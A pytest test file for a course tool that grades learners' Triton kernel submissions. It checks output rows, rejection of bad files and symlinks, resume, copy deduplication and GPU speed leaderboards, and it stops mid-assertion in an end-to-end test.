"""Grading a room (``python -m course_lib grade ROOM``): one row per (learner, task), bad files as
rows, scores from points, the summary, --resume, atomic writes. A fake ``grade_jobs`` stands in
for the grader, so these are fast; one test at the end goes through the real command line."""

from __future__ import annotations

import csv
import hashlib
import json
import os
import shutil
import types
from pathlib import Path

import pytest
from conftest import ROOT, WRONG, assert_clean, requires_sandbox, run_course

from course_lib import cli, sources, tasks
from course_lib.grader import roster
from course_lib.grader.roster import COLUMNS, TaskResult

TWO = ["vector_copy", "vector_add"]
SOLUTION = {t: (ROOT / "solutions" / f"{t}.py").read_bytes() for t in TWO}
NBGRADER = ["student_id", "assignment", "timestamp", "raw_score", "score", "max_score"]


def timed(tier: str, us: float, fraction: float) -> dict:
    """What the grader's tiers put in a passing GPU result (``grader.tiers``)."""
    return {"tier": tier, "speed_us": us, "roofline_fraction": fraction}


class FakeGrader:
    """``grade_jobs`` without processes: a pass unless ``verdicts[(learner, task)]`` says otherwise."""

    def __init__(self, verdicts: dict | None = None):
        self.verdicts = verdicts or {}
        self.calls: list[dict] = []

    def __call__(self, jobs, seed=None, workers=None, timeout=None, on_result=None, hidden=None, sandboxed=None):
        self.calls.append(
            {"jobs": list(jobs), "seed": seed, "workers": workers, "timeout": timeout, "hidden": hidden,
             "sandboxed": sandboxed}
        )  # fmt: skip
        results = []
        for job in jobs:
            assert (job.source / f"{job.task}.py").is_file()
            verdict = self.verdicts.get((job.learner, job.task), ("pass", "all cases passed", []))
            status, summary, details, *speed = verdict
            passed = 10 if status == "pass" else 3
            result = TaskResult(job.task, status, summary, list(details), str(job.source), seed, passed, 10, 0.25)
            for key, value in (speed[0] if speed else {}).items():
                setattr(result, key, value)
            result.sandboxed = bool(sandboxed)
            # the bytes graded, as the real grader records them (a copy takes a verdict only for these)
            result.file_sha256 = hashlib.sha256((job.source / f"{job.task}.py").read_bytes()).hexdigest()
            if on_result is not None:
                on_result(job, result)
            results.append(result)
        return results

    @property
    def graded(self) -> list[tuple[str, str]]:
        return [(j.learner, j.task) for call in self.calls for j in call["jobs"]]


@pytest.fixture(autouse=True)
def a_sandbox(monkeypatch):
    """The fake grader runs nothing: grade as if this machine had a sandbox (tests of its absence say so)."""
    monkeypatch.setattr(roster.sandbox, "available", lambda: roster.sandbox.Availability(True, "bubblewrap (test)", ""))


def make_room(path, learners: dict[str, dict[str, bytes]]):
    """``{learner: {task: bytes}}`` as ROOM/<learner>/<task>.py."""
    path.mkdir(parents=True, exist_ok=True)
    for learner, files in learners.items():
        (path / learner).mkdir()
        for task, data in files.items():
            (path / learner / f"{task}.py").write_bytes(data)
    return path


def read_csv(path):
    with path.open(newline="") as f:
        return list(csv.DictReader(f))


def grade(room, out, fake=None, **options):
    options.setdefault("task_names", TWO)
    options.setdefault("seed", 7)
    # the fake's verdicts are per learner, so identical files may differ here: each graded (the tests of
    # copies graded once say copies_once=True)
    options.setdefault("copies_once", False)
    return roster.grade_room(room, out, grade=fake or FakeGrader(), progress=False, log=lambda text: None, **options)


# --------------------------------------------------------------------------------------------------
# bad files


BAD = {
    "empty": b"",
    "blank": b"  \n\t\n",
    "binary": b"import triton\n\x00\x00\x00",
    "huge": b"#" * (roster.MAX_FILE_BYTES + 1),
    "latin1": "# caf\u00e9\n".encode("latin-1"),
}
EXPECTED = {"empty": "empty", "blank": "empty", "binary": "binary", "huge": "too_large", "latin1": "not_utf8"}


def test_bad_files_are_rows_that_score_zero_and_never_reach_the_grader(tmp_path):
    room = make_room(tmp_path / "room", {name: {"vector_copy": data} for name, data in BAD.items()})
    (room / "nothing").mkdir()  # a learner with no .py file at all
    (room / "nothing" / "notes.txt").write_text("I ran out of time")
    (room / "linked").mkdir()
    (room / "linked" / "vector_copy.py").symlink_to(ROOT / "solutions" / "vector_copy.py")
    (room / "dirfile").mkdir()
    (room / "dirfile" / "vector_copy.py").mkdir()
    (room / "good").mkdir()
    (room / "good" / "vector_copy.py").write_bytes(SOLUTION["vector_copy"])
    fake = FakeGrader()
    result = grade(room, tmp_path / "grades.csv", fake)

    assert fake.graded == [("good", "vector_copy")], "only the one good file is sent to the grader"
    status = {(r["student_id"], r["assignment"]): r for r in result.rows}
    for name, expected in EXPECTED.items():
        assert status[name, "vector_copy"]["status"] == expected, name
    assert status["linked", "vector_copy"]["status"] == "not_a_file"
    assert "symbolic link" in status["linked", "vector_copy"]["message"]
    assert status["dirfile", "vector_copy"]["status"] == "not_a_file"
    for learner in [*BAD, "nothing", "linked", "dirfile", "good"]:
        assert status[learner, "vector_add"]["status"] == "missing"
        assert status[learner, "vector_add"]["message"] == f"no vector_add.py in {learner}/"
        assert status[learner, "vector_add"]["sha256"] == ""
    assert status["nothing", "vector_copy"]["status"] == "missing"
    for key, row in status.items():
        if key != ("good", "vector_copy"):
            assert row["score"] == row["raw_score"] == 0 and row["max_score"] == 1, key
    assert status["good", "vector_copy"]["score"] == 1
    # the bad bytes were hashed; links and folders have no bytes of their own
    assert status["binary", "vector_copy"]["sha256"] == __import__("hashlib").sha256(BAD["binary"]).hexdigest()
    assert status["linked", "vector_copy"]["sha256"] == ""


def test_a_learner_folder_that_is_a_symlink_is_not_graded(tmp_path):
    room = make_room(tmp_path / "room", {"alice": dict(SOLUTION)})
    (room / "mallory").symlink_to(room / "alice")
    fake = FakeGrader()
    result = grade(room, tmp_path / "grades.csv", fake)
    assert fake.graded == [("alice", t) for t in TWO]
    assert [r["status"] for r in result.rows if r["student_id"] == "mallory"] == ["not_a_file"] * 2


@pytest.mark.parametrize(
    ("data", "status", "words"),
    [
        (b"", "empty", "is empty"),
        (b"\n \n", "empty", "only whitespace"),
        (b"x = 1\x00", "binary", "NUL bytes (byte 5)"),
        (b"x = '\xff'\n", "not_utf8", "not valid UTF-8 (byte 5)"),
        (b"x" * (roster.MAX_FILE_BYTES + 1), "too_large", "1.0 MiB; the limit is 1 MiB"),
        (b"x" * roster.MAX_FILE_BYTES, None, ""),
        ("x = '\u00e9'\n".encode(), None, ""),
    ],
    ids=["empty", "blank", "binary", "latin1", "huge", "just-1MiB", "utf8"],
)
def test_check_file(tmp_path, data, status, words):
    path = tmp_path / "vector_add.py"
    path.write_bytes(data)
    found = roster.check_file(path, "bob", "vector_add")
    assert found.status == status
    assert words in found.message
    if status:
        assert found.message.startswith("bob/vector_add.py ")


# --------------------------------------------------------------------------------------------------
# rows, columns, scores


def test_one_row_per_pair_in_learner_then_course_order_with_the_columns_in_order(tmp_path):
    room = make_room(tmp_path / "room", {"zoe": dict(SOLUTION), "alice": {"vector_add": SOLUTION["vector_add"]}})
    (room / ".git").mkdir()
    (room / "__pycache__").mkdir()
    (room / "README.txt").write_text("not a learner")
    out = tmp_path / "grades.csv"
    grade(room, out, task_names=None)

    with out.open(newline="") as f:
        header = next(csv.reader(f))
    assert header == COLUMNS
    assert header[: len(NBGRADER)] == NBGRADER
    every = [t.name for t in tasks.all_tasks()]
    rows = read_csv(out)
    assert [(r["student_id"], r["assignment"]) for r in rows] == [(w, t) for w in ("alice", "zoe") for t in every]
    assert all(r["timestamp"].endswith("Z") and "T" in r["timestamp"] for r in rows)
    assert {r["seed"] for r in rows} == {"7"}
    zoe = {r["assignment"]: r for r in rows if r["student_id"] == "zoe"}
    assert zoe["vector_add"]["sha256"] == __import__("hashlib").sha256(SOLUTION["vector_add"]).hexdigest()
    assert (zoe["vector_add"]["cases_passed"], zoe["vector_add"]["cases_total"]) == ("10", "10")
    assert zoe["vector_add"]["seconds"] == "0.25"


def test_tasks_can_be_chosen_by_repeating_or_with_commas(tmp_path):
    room = make_room(tmp_path / "room", {"alice": dict(SOLUTION)})
    for chosen in (["vector_add", "vector_copy"], ["vector_add,vector_copy"], "vector_add, vector_copy"):
        fake = FakeGrader()
        result = grade(room, tmp_path / "grades.csv", fake, task_names=chosen)
        assert result.tasks == TWO  # course order, whatever order they were asked in
        assert fake.graded == [("alice", t) for t in TWO]


def test_scores_come_from_the_task_points_all_or_nothing(tmp_path, monkeypatch):
    monkeypatch.setattr(tasks.get("vector_add"), "points", 3.0, raising=False)
    room = make_room(tmp_path / "room", {"alice": dict(SOLUTION), "bob": dict(SOLUTION)})
    fake = FakeGrader({("bob", "vector_add"): ("fail", "case 'tail' 3 of 1000 elements are wrong", [])})
    result = grade(room, tmp_path / "grades.csv", fake)
    score = {(r["student_id"], r["assignment"]): (r["raw_score"], r["score"], r["max_score"]) for r in result.rows}
    assert score["alice", "vector_add"] == (3.0, 3.0, 3.0)
    assert score["bob", "vector_add"] == (0.0, 0.0, 3.0), "7 of 10 cases passed is still a wrong kernel"
    assert score["alice", "vector_copy"] == score["bob", "vector_copy"] == (1.0, 1.0, 1.0)
    assert "bob: 1/2 tasks pass, score 1/4" in result.learner_lines()


def test_json_holds_the_same_rows_as_the_csv(tmp_path):
    room = make_room(tmp_path / "room", {"alice": dict(SOLUTION), "bob": {"vector_add": b"\x00"}})
    fake = FakeGrader({("alice", "vector_add"): ("fail", 'case "tail", quoted | piped\nand two lines', [])})
    grade(room, tmp_path / "grades.csv", fake)
    rows = json.loads((tmp_path / "grades.json").read_text())
    assert [list(r) for r in rows] == [COLUMNS] * 4
    as_text = [{k: "" if v is None else str(v) for k, v in r.items()} for r in rows]
    assert as_text == read_csv(tmp_path / "grades.csv")
    assert rows[1]["message"] == 'case "tail", quoted | piped and two lines'  # one line
    assert isinstance(rows[0]["score"], float) and isinstance(rows[0]["seed"], int)


def test_out_ending_in_json_writes_json_alone(tmp_path):
    room = make_room(tmp_path / "room", {"alice": dict(SOLUTION)})
    result = grade(room, tmp_path / "grades.json")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["grades.json", "grades.summary.md", "room"]
    assert result.written == [tmp_path / "grades.json", tmp_path / "grades.summary.md"]
    assert [r["status"] for r in json.loads((tmp_path / "grades.json").read_text())] == ["pass", "pass"]


# --------------------------------------------------------------------------------------------------
# the summary


def test_failures_group_by_their_normalized_message():
    a = roster.normalize_message("case 'tail' 12 of 1000 elements are wrong (max error 3.5e-02)", "ann")
    b = roster.normalize_message("case 'large' 13 of 1000 elements are wrong (max error 0.25)", "bob")
    assert a == b == "case '…' N of N elements are wrong (max error N)"
    path_a = roster.normalize_message("importing /tmp/room/ann/vector_add.py raised NameError: x1", "ann")
    path_b = roster.normalize_message("importing /other/bob/vector_add.py raised NameError: x1", "bob")
    assert path_a == path_b
    assert roster.normalize_message("the kernel doesn't compile") == "the kernel doesn't compile"
    assert roster.normalize_message("no Triton kernel was launched") != a
    # the digits of a word are no number: a summary says float16, not floatN
    said = roster.normalize_message("case 'tail' (float16) failed on sm_90 with 3 x 16-byte loads")
    assert said == "case '…' (float16) failed on sm_90 with N x N-byte loads", said


def test_the_summary_names_the_most_common_failure_per_task(tmp_path):
    learners = [f"l{i}" for i in range(6)]
    room = make_room(tmp_path / "room", {name: dict(SOLUTION) for name in learners})
    verdicts = {
        ("l0", "vector_add"): ("fail", "case 'tail' 12 of 1000 elements are wrong", []),
        ("l1", "vector_add"): ("fail", "case 'tail' 13 of 1000 elements are wrong", []),
        ("l2", "vector_add"): ("fail", "case 'large' 99 of 100003 elements are wrong", []),
        ("l3", "vector_add"): ("fail", "no Triton kernel was launched", []),
        ("l4", "vector_add"): ("todo", "not implemented yet: add_kernel", []),
        ("l5", "vector_copy"): ("timeout", "no result after 120 s", []),
    }
    result = grade(room, tmp_path / "grades.csv", FakeGrader(verdicts))
    summary = (tmp_path / "grades.summary.md").read_text()
    add = next(line for line in summary.splitlines() if line.startswith("| vector_add | 1/6"))
    assert "| 17% |" in add and "| 0.17 / 1 |" in add
    assert "`case '…' N of N elements are wrong` | 3 | l0: case 'tail' 12 of 1000 elements are wrong |" in add
    copy = next(line for line in summary.splitlines() if line.startswith("| vector_copy | 5/6"))
    assert "no result after N s" in copy
    assert "- vector_add, 1x: `no Triton kernel was launched` (e.g. l3)" in summary
    assert "| task | pass | fail | todo | timeout |" in summary
    assert "| vector_add | 1 | 4 | 1 | 0 |" in summary and "| **all** | **6** | **4** | **1** | **1** |" in summary
    assert "seed 7" in summary and "total time" in summary
    short = result.short_summary()
    assert "vector_add   1/6 pass, mean 0.17/1; most common failure (3x): case 'tail' 12 of 1000" in short
    assert "statuses: pass 6, fail 4, todo 1, timeout 1" in short


# --------------------------------------------------------------------------------------------------
# --resume


def test_resume_grades_only_what_changed_and_reuses_the_recorded_seed(tmp_path):
    room = make_room(tmp_path / "room", {"alice": dict(SOLUTION), "bob": dict(SOLUTION), "carol": {}})
    out = tmp_path / "grades.csv"
    first = FakeGrader({("bob", "vector_add"): ("fail", "case 'tail' 12 of 1000 elements are wrong", [])})
    grade(room, out, first, seed=1234)
    assert len(first.graded) == 4
    before = read_csv(out)

    (room / "bob" / "vector_add.py").write_bytes(SOLUTION["vector_add"] + b"\n# fixed it\n")
    said = []
    again = FakeGrader()
    result = roster.grade_room(room, out, TWO, resume=True, grade=again, progress=False, log=said.append)
    assert again.graded == [("bob", "vector_add")]
    assert again.calls[0]["seed"] == 1234 and result.seed == 1234
    assert any("reusing seed 1234" in line for line in said)
    after = read_csv(out)
    assert [r for r in after if r["student_id"] != "bob" or r["assignment"] != "vector_add"] == [
        r for r in before if r["student_id"] != "bob" or r["assignment"] != "vector_add"
    ]  # kept rows are the same rows, timestamps included
    bob_add = next(r for r in after if r["student_id"] == "bob" and r["assignment"] == "vector_add")
    assert bob_add["status"] == "pass"
    assert result.kept == {("alice", "vector_copy"), ("alice", "vector_add"), ("bob", "vector_copy")}

    # a new seed is a new grading of every file
    third = FakeGrader()
    grade(room, out, third, seed=99, resume=True)
    assert len(third.graded) == 4


def test_resume_with_other_tasks_keeps_their_rows(tmp_path):
    room = make_room(tmp_path / "room", {"alice": dict(SOLUTION)})
    out = tmp_path / "grades.csv"
    grade(room, out, seed=5)
    fake = FakeGrader()
    grade(room, out, fake, task_names=["vector_add"], resume=True, seed=5)
    assert fake.graded == []
    assert [r["assignment"] for r in read_csv(out)] == TWO


def test_resume_without_a_file_grades_everything(tmp_path):
    room = make_room(tmp_path / "room", {"alice": dict(SOLUTION)})
    fake = FakeGrader()
    said = []
    roster.grade_room(room, tmp_path / "grades.csv", TWO, resume=True, grade=fake, progress=False, log=said.append)
    assert len(fake.graded) == 2 and any("grading every file" in line for line in said)


# --------------------------------------------------------------------------------------------------
# writing


def test_an_error_while_writing_leaves_the_old_file_and_no_partial_one(tmp_path, monkeypatch):
    room = make_room(tmp_path / "room", {"alice": dict(SOLUTION), "bob": dict(SOLUTION)})
    out = tmp_path / "grades.csv"
    out.write_text("the last run's grades\n")
    real = csv.DictWriter.writerow
    written = []

    def failing(self, row):
        if len(written) == 2:  # the header and one row are out: the disk fills up
            raise OSError(28, "No space left on device")
        written.append(row)
        return real(self, row)

    monkeypatch.setattr(csv.DictWriter, "writerow", failing)
    with pytest.raises(OSError, match="No space left"):
        grade(room, out)
    assert len(written) == 2
    assert out.read_text() == "the last run's grades\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["grades.csv", "room"]  # no temporary file left


def test_a_failing_summary_keeps_the_grades(tmp_path, monkeypatch):
    room = make_room(tmp_path / "room", {"alice": dict(SOLUTION)})

    def broken(self):
        raise RuntimeError("summary bug")

    monkeypatch.setattr(roster.Room, "summary_markdown", broken)
    with pytest.raises(RuntimeError):
        grade(room, tmp_path / "grades.csv")
    assert len(read_csv(tmp_path / "grades.csv")) == 2 and (tmp_path / "grades.json").exists()


# --------------------------------------------------------------------------------------------------
# the command line's face


def test_usage_problems_exit_2_with_one_line(tmp_path, capsys):
    (tmp_path / "empty_room").mkdir()
    room = make_room(tmp_path / "room", {"alice": {}})
    (tmp_path / "cases.json").write_text("not json")
    for args, words in [
        ([str(tmp_path / "nowhere")], "is not a folder of submissions"),
        ([str(tmp_path / "empty_room")], "holds no learner folders"),
        ([str(room), "--task", "vector_add,no_such_task"], "no task named 'no_such_task'"),
        ([str(room), "--hidden", str(tmp_path / "cases.json")], "is not JSON"),
        ([str(room), "--hidden", str(tmp_path / "nope.json")], "cannot read the hidden cases file"),
        ([str(room), "--out", str(tmp_path)], "it is a folder"),
    ]:
        assert cli.main(["grade", "--out", str(tmp_path / "g.csv"), *args]) == 2, args
        err = capsys.readouterr().err
        assert err.startswith("error: ") and words in err and err.count("\n") == 1, err
    assert not (tmp_path / "g.csv").exists()


def test_the_command_passes_its_options_to_the_grader(tmp_path, monkeypatch, capsys):
    room = make_room(tmp_path / "room", {"alice": dict(SOLUTION)})
    cases = tmp_path / "cases.json"
    cases.write_text('{"vector_add": [{"shape": [77], "dtype": "float16"}]}')
    fake = FakeGrader()
    monkeypatch.setattr(roster, "grade_jobs", fake)
    argv = ["grade", str(room), "--out", str(tmp_path / "g.csv"), "--task", "vector_add", "--seed", "3"]
    argv += ["--timeout", "9", "--jobs", "2", "--hidden", str(cases), "--verbose"]
    assert cli.main(argv) == 0
    call = fake.calls[0]
    assert (call["seed"], call["timeout"], call["workers"], call["hidden"]) == (3, 9.0, 2, str(cases))
    out = capsys.readouterr().out
    assert "== alice" in out and "PASS  vector_add" in out and "alice: 1/1 tasks pass, score 1/1" in out
    assert f"wrote 1 rows to {tmp_path / 'g.csv'}" in out


def test_progress_bar_counts_finished_jobs(tmp_path, capsys):
    room = make_room(tmp_path / "room", {"alice": dict(SOLUTION), "bob": {"vector_add": SOLUTION["vector_add"]}})
    roster.grade_room(room, tmp_path / "g.csv", TWO, seed=1, grade=FakeGrader(), progress=True, log=print)
    assert "3/3" in capsys.readouterr().err


# --------------------------------------------------------------------------------------------------
# byte-identical files of a task are graded once


class NamingGrader(FakeGrader):
    """A fake whose report names the graded file's folder, as the real grader's messages do."""

    def __call__(self, jobs, **kwargs):
        for job in jobs:
            where = f"{sources.display(job.source)}/{job.task}.py"
            self.verdicts[(job.learner, job.task)] = (
                "fail", f"{where} line 3: case 'tail' 2 of 9 elements are wrong",
                [f"see {where}", f"{sources.display(job.source)}2/notes.txt is another folder"],
                timed("fast", 12.5, 0.5),
            )  # fmt: skip
        return super().__call__(jobs, **kwargs)


def test_identical_files_of_a_task_are_graded_once_and_each_copy_gets_its_verdict(tmp_path):
    mine = SOLUTION["vector_add"] + b"# my own comment\n"
    room = make_room(
        tmp_path / "room",
        {"ada": dict(SOLUTION), "bob": dict(SOLUTION), "cy": {"vector_add": mine}, "dee": {"vector_copy": mine}},
    )
    fake = NamingGrader()
    result = grade(room, tmp_path / "grades.csv", fake, copies_once=True)
    # one job per distinct (task, bytes): bob's two files are ada's; dee's file is cy's bytes under another task
    assert fake.graded == [("ada", "vector_copy"), ("ada", "vector_add"), ("cy", "vector_add"), ("dee", "vector_copy")]
    rows = {(r["student_id"], r["assignment"]): r for r in result.rows}
    for task in TWO:
        ada, bob = rows["ada", task], rows["bob", task]
        same = ("status", "score", "cases_passed", "cases_total", "sha256", "seed", "speed_tier", "time_us")
        assert {k: bob[k] for k in same} == {k: ada[k] for k in same}
        # the gradebook says whose file it is the same as, and that nothing ran for it
        assert (bob["same_file_as"], ada["same_file_as"]) == ("ada", "")
        assert bob["seconds"] == 0.0 < ada["seconds"]
        # the copy's report names its own file, never the learner graded for it
        assert bob["message"] == ada["message"].replace("room/ada/", "room/bob/")
        assert "room/ada/" not in bob["message"] and "room/bob/" in bob["message"]
        details = result.results["bob", task].details
        assert details[0].endswith(f"room/bob/{task}.py")
        assert details[1].endswith("room/ada2/notes.txt is another folder"), "another folder's name is left alone"
        assert result.results["bob", task].learner == "bob"
    assert result.copied == {("bob", "vector_copy"), ("bob", "vector_add")}
    assert rows["cy", "vector_add"]["same_file_as"] == rows["dee", "vector_copy"]["same_file_as"] == ""
    written = {(r["student_id"], r["assignment"]): r for r in roster.read_rows(tmp_path / "grades.csv")}
    assert written["bob", "vector_add"]["same_file_as"] == "ada"
    said = "graded now from 4 distinct files: 2 byte-identical copies took their verdict"
    assert said in result.short_summary() and said in (tmp_path / "grades.summary.md").read_text()


def test_a_kept_row_no_longer_names_a_file_that_changed_since(tmp_path):
    """--resume keeps bob's row (his file and the seed are unchanged), but ada's file, which bob's was
    the same as, has changed: the kept row no longer says it is the same file."""
    room = make_room(tmp_path / "room", {"ada": dict(SOLUTION), "bob": dict(SOLUTION)})
    out = tmp_path / "grades.csv"
    grade(room, out, NamingGrader(), copies_once=True)
    assert {r["assignment"]: r["same_file_as"] for r in read_csv(out) if r["student_id"] == "bob"} == {
        "vector_add": "ada", "vector_copy": "ada",
    }  # fmt: skip
    (room / "ada" / "vector_add.py").write_bytes(SOLUTION["vector_add"] + b"# ada changed it\n")
    again = grade(room, out, NamingGrader(), copies_once=True, resume=True)
    assert ("bob", "vector_add") in again.kept
    rows = {(r["student_id"], r["assignment"]): r for r in read_csv(out)}
    assert rows["bob", "vector_add"]["same_file_as"] == ""  # ada's file is no longer bob's
    assert rows["bob", "vector_copy"]["same_file_as"] == "ada"  # still the same bytes
    # ada's folder replaced by a link to a copy of itself: a link is never read, so no longer "the same"
    shutil.copytree(room / "ada", tmp_path / "elsewhere")
    shutil.rmtree(room / "ada")
    (room / "ada").symlink_to(tmp_path / "elsewhere")
    grade(room, out, NamingGrader(), copies_once=True, resume=True)
    rows = {(r["student_id"], r["assignment"]): r for r in read_csv(out)}
    assert rows["bob", "vector_copy"]["same_file_as"] == "" and rows["ada", "vector_copy"]["status"] == "not_a_file"


def test_grading_from_inside_the_room_is_refused(tmp_path, monkeypatch):
    """A learner's folder that is a whole course copy (exercises/, notebooks/, solutions/): run from
    there, its solutions would set the time limits and speed bars, so grade says so and grades nothing."""
    room = make_room(tmp_path / "room", {"ada": dict(SOLUTION)})
    for folder in ("exercises", "notebooks", "solutions"):
        (room / "ada" / folder).mkdir()
    monkeypatch.delenv("COURSE_ROOT", raising=False)
    monkeypatch.chdir(room / "ada")
    fake = FakeGrader()
    with pytest.raises(roster.UsageError, match="inside the room"):
        grade(room, tmp_path / "grades.csv", fake)
    assert fake.graded == [] and not (tmp_path / "grades.csv").exists()
    monkeypatch.setenv("COURSE_ROOT", os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
    grade(room, tmp_path / "grades.csv", fake)  # from the instructor's own course: graded
    assert fake.graded


def test_each_copy_is_graded_when_asked(tmp_path, monkeypatch):
    room = make_room(tmp_path / "room", {"ada": dict(SOLUTION), "bob": dict(SOLUTION)})
    fake = FakeGrader()
    result = grade(room, tmp_path / "grades.csv", fake, copies_once=False)
    assert len(fake.graded) == 4 and not result.copied and "distinct" not in result.short_summary()
    # and the command line says it with --each-copy (default: copies graded once)
    for flag, once in (([], True), (["--each-copy"], False)):
        fake = FakeGrader()
        monkeypatch.setattr(roster, "grade_jobs", fake)
        assert cli.main(["grade", str(room), "--out", str(tmp_path / "g.csv"), "--quiet", *flag]) == 0
        assert len(fake.graded) == (2 if once else 4), flag  # the room's other tasks are missing files: rows


def test_a_copy_changed_while_its_twin_was_graded_is_graded_itself(tmp_path):
    room = make_room(tmp_path / "room", {"ada": dict(SOLUTION), "bob": dict(SOLUTION)})
    changed = SOLUTION["vector_add"] + b"x = 1\n"

    class Changing(FakeGrader):
        def __call__(self, jobs, **kwargs):
            if not self.calls:
                (room / "bob" / "vector_add.py").write_bytes(changed)
            return super().__call__(jobs, **kwargs)

    fake = Changing({("bob", "vector_add"): ("fail", "bob's own verdict", [])})
    result = grade(room, tmp_path / "grades.csv", fake, copies_once=True)
    assert [[(j.learner, j.task) for j in c["jobs"]] for c in fake.calls] == [
        [("ada", "vector_copy"), ("ada", "vector_add")],
        [("bob", "vector_add")],
    ]
    rows = {(r["student_id"], r["assignment"]): r for r in result.rows}
    assert rows["bob", "vector_add"]["status"] == "fail" and rows["bob", "vector_copy"]["status"] == "pass"
    assert result.copied == {("bob", "vector_copy")}
    assert (rows["bob", "vector_add"]["same_file_as"], rows["bob", "vector_copy"]["same_file_as"]) == ("", "ada")


def test_a_timeout_or_a_crash_is_never_copied(tmp_path):
    """A timeout or a crash may be the machine's load or a worker's death, not the file: each copy of
    such a file is graded itself; a fail is the file's and is copied."""
    room = make_room(tmp_path / "room", {"ada": dict(SOLUTION), "bob": dict(SOLUTION), "cy": dict(SOLUTION)})
    verdicts = {
        ("ada", "vector_copy"): ("timeout", "case 'large' took over 12 s", []),
        ("ada", "vector_add"): ("fail", "case 'tail' 3 of 1000 elements are wrong", []),
    }
    fake = FakeGrader(verdicts)
    result = grade(room, tmp_path / "grades.csv", fake, copies_once=True)
    assert sorted(fake.graded) == [("ada", "vector_add"), ("ada", "vector_copy"), ("bob", "vector_copy"),
                                   ("cy", "vector_copy")]  # fmt: skip
    rows = {(r["student_id"], r["assignment"]): r["status"] for r in result.rows}
    assert rows["bob", "vector_copy"] == rows["cy", "vector_copy"] == "pass"  # graded: no timeout this time
    assert rows["bob", "vector_add"] == rows["cy", "vector_add"] == "fail"  # copied
    assert result.copied == {("bob", "vector_add"), ("cy", "vector_add")}


def test_a_verdict_of_other_bytes_is_never_copied(tmp_path):
    """The grader records the bytes it graded; a twin whose grading saw other bytes (changed and changed
    back, or a grader crash with no bytes) gives its copies nothing: they are graded themselves."""
    room = make_room(tmp_path / "room", {"ada": dict(SOLUTION), "bob": dict(SOLUTION)})

    class OtherBytes(FakeGrader):
        def __call__(self, jobs, **kwargs):
            results = super().__call__(jobs, **kwargs)
            for job, r in zip(jobs, results):
                if job.learner == "ada" and job.task == "vector_add":
                    r.file_sha256 = ""
            return results

    fake = OtherBytes()
    result = grade(room, tmp_path / "grades.csv", fake, copies_once=True)
    assert ("bob", "vector_add") in fake.graded and ("bob", "vector_copy") not in fake.graded
    assert result.copied == {("bob", "vector_copy")}


# --------------------------------------------------------------------------------------------------
# GPU: speed points and leaderboards (fake results, so it runs in CPU mode)


def test_speed_points_and_leaderboard_on_a_gpu(tmp_path, monkeypatch):
    monkeypatch.setattr(roster.runtime, "is_gpu", lambda: True)
    room = make_room(tmp_path / "room", {name: dict(SOLUTION) for name in ("ann", "ben", "cat", "dan")})
    perf = {"ann": timed("works", 40.0, 0.4), "ben": timed("expert", 18.0, 0.9), "cat": timed("fast", 22.5, 0.72)}
    verdicts = {(n, "vector_add"): ("pass", "9 cases passed", [], speed) for n, speed in perf.items()}
    verdicts["dan", "vector_add"] = ("fail", "case 'tail' 1 of 1000 elements are wrong", [], timed("expert", 1, 0.99))
    result = grade(room, tmp_path / "grades.csv", FakeGrader(verdicts), speed_points=True, task_names=["vector_add"])
    score = {r["student_id"]: (r["score"], r["max_score"], r["speed_tier"], r["time_us"]) for r in result.rows}
    assert score["ann"] == (1.0, 2.0, "works", 40.0)  # correct and slow: the pass, no speed points
    assert score["cat"] == (1.5, 2.0, "fast", 22.5)
    assert score["ben"] == (2.0, 2.0, "expert", 18.0)
    assert score["dan"] == (0.0, 2.0, "", None)  # a failing kernel gets no speed points, whatever its time
    summary = (tmp_path / "grades.summary.md").read_text()
    board = summary[summary.index("### vector_add") :].splitlines()
    assert board[4:7] == [
        "| 1 | ben | 18.0 us | expert | 90% |",
        "| 2 | cat | 22.5 us | fast | 72% |",
        "| 3 | ann | 40.0 us | works | 40% |",
    ]

    # --resume keeps the tiers and times: same points, same leaderboard, nothing timed again
    fake = FakeGrader()
    again = grade(room, tmp_path / "grades.csv", fake, speed_points=True, task_names=["vector_add"], resume=True)
    assert fake.graded == [] and {r["student_id"]: r["score"] for r in again.rows}["cat"] == 1.5
    assert "| 1 | ben | 18.0 us | expert | 90% |" in (tmp_path / "grades.summary.md").read_text()


def test_speed_points_need_a_gpu(tmp_path, monkeypatch):
    monkeypatch.setattr(roster.runtime, "is_gpu", lambda: False)
    room = make_room(tmp_path / "room", {"ann": dict(SOLUTION)})
    verdicts = {("ann", "vector_add"): ("pass", "9 cases passed", [], timed("expert", 9.0, 0.9))}
    said = []
    result = roster.grade_room(room, tmp_path / "g.csv", TWO, seed=1, speed_points=True, grade=FakeGrader(verdicts),
                               progress=False, log=said.append)  # fmt: skip
    assert [r["max_score"] for r in result.rows] == [1.0, 1.0]
    assert any("--speed-points needs a GPU" in line for line in said)


def test_a_gpu_room_leaves_the_job_count_to_the_pool_unless_jobs_is_given(tmp_path, monkeypatch):
    """On a GPU the room does not cap the pool at one job per GPU (that graded 40 x 22 at a job every
    15 s on the H200): the pool shares each GPU among jobs_per_gpu() jobs; --jobs still decides."""
    torch = pytest.importorskip("torch")
    monkeypatch.setattr(roster.runtime, "is_gpu", lambda: True)
    monkeypatch.setattr(torch.cuda, "device_count", lambda: 1)
    room = make_room(tmp_path / "room", {"ann": dict(SOLUTION)})
    fake = FakeGrader()
    grade(room, tmp_path / "g.csv", fake)
    grade(room, tmp_path / "g.csv", fake, workers=3)
    assert [c["workers"] for c in fake.calls] == [None, 3]


# --------------------------------------------------------------------------------------------------
# end to end, through the real command line and the real grader


@requires_sandbox
def test_grade_a_room_end_to_end(tmp_path, progress_file):
    room = tmp_path / "room"
    for learner in ("honest", "stubs", "mixed"):
        (room / learner).mkdir(parents=True)
    for task in TWO:
        shutil.copy(ROOT / "solutions" / f"{task}.py", room / "honest")
        shutil.copy(ROOT / "exercises" / f"{task}.py", room / "stubs")
    (room / "mixed" / "vector_copy.py").write_bytes(b"\x00\x01binary")
    shutil.copy(WRONG / "wrong_formula" / "vector_add.py", room / "mixed")
    # byte-identical files of a task are graded once: an untouched stub, a file handed in twice
    shutil.copytree(room / "stubs", room / "stubs2")
    (room / "copycat").mkdir()
    shutil.copy(WRONG / "wrong_formula" / "vector_add.py", room / "copycat")
    out = tmp_path / "grades.csv"

    run = run_course("grade", str(room), "--out", str(out), "--task", "vector_copy,vector_add", "--seed", "11",
                     progress=progress_file)  # fmt: skip
    assert_clean(run)
    assert run.returncode == 0, run.stdout + run.stderr
    rows = read_csv(out)
    assert [(r["student_id"], r["assignment"]) for r in rows] == [
